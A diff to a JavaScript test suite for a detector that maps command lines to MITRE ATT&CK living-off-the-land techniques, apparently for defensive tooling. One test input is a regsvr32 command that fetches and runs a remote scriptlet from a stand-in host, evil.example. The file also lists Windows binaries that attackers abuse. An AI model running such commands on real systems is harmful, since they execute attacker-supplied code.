@@ -126,7 +126,9 @@ describe('living off the land', () => {
     expect(livingOffTheLand('regsvr32 /s /i:http://evil.example/a.sct scrobj.dll').map(livingOffText)).toEqual(['regsvr32.exe: T1218.010 System Binary Proxy Execution: Regsvr32']);
     expect(livingOffTheLand('certutil.exe | cmd.exe | mshta.exe | '.repeat(100_000))).toHaveLength(3);
     for (const part of ['|', '"', 'a'.repeat(5_000), 'sudo ', '/c ', '\\', '^']) livingOffTheLand(part.repeat(Math.ceil(2_000_000 / part.length)));
-    for (const { techniques } of livingOffTheLand('wmic | reg | sc | schtasks | at | wsl | netsh | forfiles | esentutl.exe')) {
+    for (const program of ['wmic', 'reg', 'sc', 'schtasks', 'at', 'wsl', 'netsh', 'forfiles', 'esentutl']) {
+      const techniques = livingOffTheLand(`${program}.exe`).flatMap((one) => one.techniques);
+      expect(techniques).not.toEqual([]);
       for (const id of techniques) expect(attackFacts(id)).toBeDefined();
     }
   });
